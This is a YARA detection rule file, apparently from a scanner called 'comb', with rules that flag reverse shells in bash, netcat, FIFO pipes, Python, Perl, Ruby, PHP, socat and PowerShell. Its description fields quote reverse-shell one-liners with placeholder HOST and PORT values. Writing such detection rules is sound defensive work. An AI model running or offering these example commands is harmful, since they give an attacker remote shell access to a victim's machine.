/* reverse_shell.yar - reverse shells in scripts and command lines: a
 * connection to a remote host wired to an interactive shell. Each rule needs
 * the network part and the shell part together. Rules written for comb. */

rule comb_revshell_bash_dev_tcp
{
    meta:
        id = "COMB-MW-040"
        family = "bash-dev-tcp"
        category = "reverse-shell"
        severity = "critical"
        description = "Interactive shell redirected to a /dev/tcp or /dev/udp connection (bash -i >& /dev/tcp/HOST/PORT 0>&1)"
    strings:
        $i_redirect = /\b(ba|z|k)?sh\s{1,4}-i\s{0,4}([0-9]?>&|&>|>)\s{0,4}\/dev\/(tcp|udp)\/[A-Za-z0-9.\-_:\[\]$\{\}]{1,100}\/[0-9$\{]/
        $exec_fd = /exec\s{1,4}[0-9]{1,3}\s{0,2}<>\s{0,2}\/dev\/(tcp|udp)\//
        $fd_loop = /(0<&[0-9]{1,3}|<&[0-9]{1,3}\s{0,4}>&[0-9]{1,3}|>&[0-9]{1,3}\s{0,4}2>&1)/
        $fd_use = /(<&|>&)\s{0,2}[3-9]\b/
        $dev_tcp = /\/dev\/(tcp|udp)\/[A-Za-z0-9.\-_:$\{\}]{1,100}\/[0-9$\{]/
        $shell = /\/bin\/(ba|z|k|da)?sh\b/
    condition:
        $i_redirect or ($exec_fd and $fd_use) or ($dev_tcp and $shell and $fd_loop and filesize < 64KB)
}

rule comb_revshell_netcat_exec
{
    meta:
        id = "COMB-MW-041"
        family = "netcat-exec"
        category = "reverse-shell"
        severity = "critical"
        description = "netcat/ncat/telnet handing a shell to a connection (nc -e /bin/sh HOST PORT, ncat --exec, nc -c, nc HOST P1 | sh | nc HOST P2)"
    strings:
        $nc_e = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s{1,4}([^\n;|&]{0,40}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}["']?(\/bin\/|\/usr\/bin\/)?(ba|z|k|da)?sh\b/
        $nc_e_after = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s{1,4}[A-Za-z0-9.\-_$\{\}]{1,100}\s{1,4}[0-9$\{][^\n;|&]{0,20}\s(-e|-c|--exec)\s{0,4}["']?(\/bin\/)?(ba|z|k|da)?sh\b/
        $pipe_pair = /\b(nc|ncat|netcat|telnet)\s{1,4}[A-Za-z0-9.\-_$\{\}]{1,100}\s{1,4}[0-9$\{][^\n|]{0,20}\|\s{0,4}(\/bin\/|\/usr\/bin\/)?(ba|z|k|da)?sh\b[^\n|]{0,20}\|\s{0,4}(nc|ncat|netcat|telnet)\s/
    condition:
        filesize < 8MB and not comb_executable and any of them
}

rule comb_revshell_fifo_pipe
{
    meta:
        id = "COMB-MW-042"
        family = "fifo-pipe-shell"
        category = "reverse-shell"
        severity = "critical"
        description = "Named-pipe reverse shell: mkfifo/mknod pipe looped through an interactive shell and nc/telnet/openssl"
    strings:
        /* File-level conjunction of short strings (a long same-line gap after
         * "mkfifo" would cost a verification per occurrence). */
        $fifo = /\b(mkfifo|mknod)\s/
        $net = /\|\s{0,4}(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
        $net_first = /\b(nc|ncat|netcat|telnet)\s{1,4}[A-Za-z0-9.\-_$\{\}]{1,100}\s{1,4}[0-9$\{][0-9$\{\}A-Za-z_]{0,10}\s{1,4}0?<\s{0,2}\//
        $sh_i = /\b(ba|z|k|da)?sh\s{1,4}-i\b/
        $sh_pipe = /\|\s{0,4}(\/bin\/|\/usr\/bin\/)?(ba|z|k|da)?sh\s{0,4}(1?>|2>|\|)/
    condition:
        not comb_executable and filesize < 1MB and $fifo and
        (($net and ($sh_i or $sh_pipe)) or ($net_first and $sh_pipe))
}

rule comb_revshell_python
{
    meta:
        id = "COMB-MW-043"
        family = "python-reverse-shell"
        category = "reverse-shell"
        severity = "critical"
        description = "Python socket connected out and duplicated onto stdin/stdout/stderr of a shell (os.dup2 + pty.spawn or /bin/sh)"
    strings:
        $sock = /socket\.socket\s{0,4}\(/
        $connect = /\.connect\s{0,4}\(\s{0,4}\(/
        $dup2 = /os\.dup2\s{0,4}\(\s{0,4}[A-Za-z_][A-Za-z0-9_.]{0,20}\.fileno\s{0,4}\(\s{0,4}\)\s{0,4},\s{0,4}[0-2]\s{0,4}\)/
        $pty = /pty\.spawn\s{0,4}\(\s{0,4}["'](\/bin\/)?(ba|z|k|da)?sh["']/
        $popen = /subprocess\.(call|Popen|run)\s{0,4}\(\s{0,4}\[\s{0,4}["']\/bin\/(ba|z|k|da)?sh["']\s{0,4},\s{0,4}["']-i["']/
        $stdio = /stdin\s{0,2}=\s{0,2}[A-Za-z_][A-Za-z0-9_]{0,20}\.fileno\s{0,4}\(\s{0,4}\)/
    condition:
        $sock and $connect and ((#dup2 >= 2 and ($pty or $popen)) or ($popen and $stdio))
}

rule comb_revshell_perl
{
    meta:
        id = "COMB-MW-044"
        family = "perl-reverse-shell"
        category = "reverse-shell"
        severity = "critical"
        description = "Perl socket connected out with STDIN/STDOUT reopened on it and a shell executed"
    strings:
        $socket = /\bsocket\s{0,4}\(\s{0,4}[A-Z_]{1,20}\s{0,4},\s{0,4}PF_INET/
        $inet = "IO::Socket::INET"
        $connect = /\bconnect\s{0,4}\(/
        $reopen = /open\s{0,4}\(\s{0,4}STD(IN|OUT|ERR)\s{0,4},\s{0,4}["']>&/
        $exec = /\bexec\s{0,4}[({]?\s{0,4}["'](\/bin\/)?(ba|z|k|da)?sh(\s{1,4}-i)?["']/
        $system = /\bsystem\s{0,4}\(?\s{0,4}\$_\s{0,4}\)?\s{0,4}while\s{0,4}<\s{0,4}\$?[A-Za-z_]{0,20}\s{0,4}>/
    condition:
        ($socket or $inet) and (($connect and #reopen >= 2 and $exec) or $system)
}

rule comb_revshell_ruby
{
    meta:
        id = "COMB-MW-045"
        family = "ruby-reverse-shell"
        category = "reverse-shell"
        severity = "critical"
        description = "Ruby TCPSocket wired to a shell (exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\"), IO.popen in a socket loop)"
    strings:
        $tcp = /TCPSocket\s{0,4}\.\s{0,4}(new|open)\s{0,4}\(/
        $fdshell = /\/bin\/(ba|z|k|da)?sh\s{1,4}-i\s{1,4}<&%d\s{0,4}>&%d/
        $spawn = /(exec|spawn|IO\.popen)\s{0,4}\(?\s{0,4}["'](\/bin\/)?(ba|z|k|da)?sh(\s{1,4}-i)?["']\s{0,4},\s{0,4}(\[\s{0,4}:(in|out|err)|:(in|out|err))/
        $loop = /while\s{1,4}\(?\s{0,4}[a-z_]{1,20}\s{0,4}=\s{0,4}[A-Za-z_]{1,20}\.gets\b/
        $popen = /IO\.popen\s{0,4}\(\s{0,4}[a-z_]{1,20}\s{0,4}[,)]/
    condition:
        $tcp and ($fdshell or $spawn or ($loop and $popen and filesize < 64KB))
}

rule comb_revshell_php
{
    meta:
        id = "COMB-MW-046"
        family = "php-reverse-shell"
        category = "reverse-shell"
        severity = "critical"
        description = "PHP fsockopen connection handed to a shell (exec(\"/bin/sh -i <&3 >&3 2>&3\") or proc_open with the socket as its pipes)"
    strings:
        $sock = /\b(fsockopen|pfsockopen|stream_socket_client|socket_connect)\s{0,4}\(/
        $fdshell = /\/bin\/(ba|z|k|da)?sh\s{1,4}-i\s{1,4}<&[0-9]/
        $proc = /proc_open\s{0,4}\(\s{0,4}["'](\/bin\/)?(ba|z|k|da)?sh(\s{1,4}-i)?["']/
        $pipes = /array\s{0,4}\(\s{0,4}0\s{0,4}=>\s{0,4}\$[A-Za-z_]{1,20}\s{0,4},\s{0,4}1\s{0,4}=>\s{0,4}\$[A-Za-z_]{1,20}/
        $spec = /0\s{0,4}=>\s{0,4}array\s{0,4}\(\s{0,4}["']pipe["']/
        $shellname = /["'](uname -a; w; id; |\/bin\/(ba)?sh -i)/
    condition:
        comb_php and $sock and ($fdshell or ($proc and ($pipes or $spec)) or ($spec and $shellname))
}

rule comb_revshell_socat
{
    meta:
        id = "COMB-MW-047"
        family = "socat-exec"
        category = "reverse-shell"
        severity = "critical"
        description = "socat connecting out and executing a shell (socat TCP:HOST:PORT EXEC:/bin/sh,pty,...)"
    strings:
        $socat = /\bsocat\s/
        $connect = /\b(tcp|tcp4|tcp6|tcp-connect|openssl|openssl-connect|udp):[A-Za-z0-9.\-_$\{\}]{1,100}:[0-9$\{]/ nocase
        $exec = /\b(exec|system):["']?(\/bin\/|\/usr\/bin\/)?(ba|z|k|da)?sh\b/ nocase
    condition:
        not comb_executable and filesize < 1MB and $socat and $connect and $exec
}

rule comb_revshell_powershell
{
    meta:
        id = "COMB-MW-048"
        family = "powershell-tcpclient"
        category = "reverse-shell"
        severity = "critical"
        description = "PowerShell TCPClient whose stream feeds Invoke-Expression and writes the output back"
    strings:
        $client = /System\.Net\.Sockets\.TCPClient\s{0,4}\(/ nocase
        $stream = /\.GetStream\s{0,4}\(\s{0,4}\)/ nocase
        $iex = /\b(iex|Invoke-Expression)\b/ nocase
        $write = /\.Write\s{0,4}\(/ nocase
    condition:
        $client and $stream and $iex and $write and filesize < 1MB
}
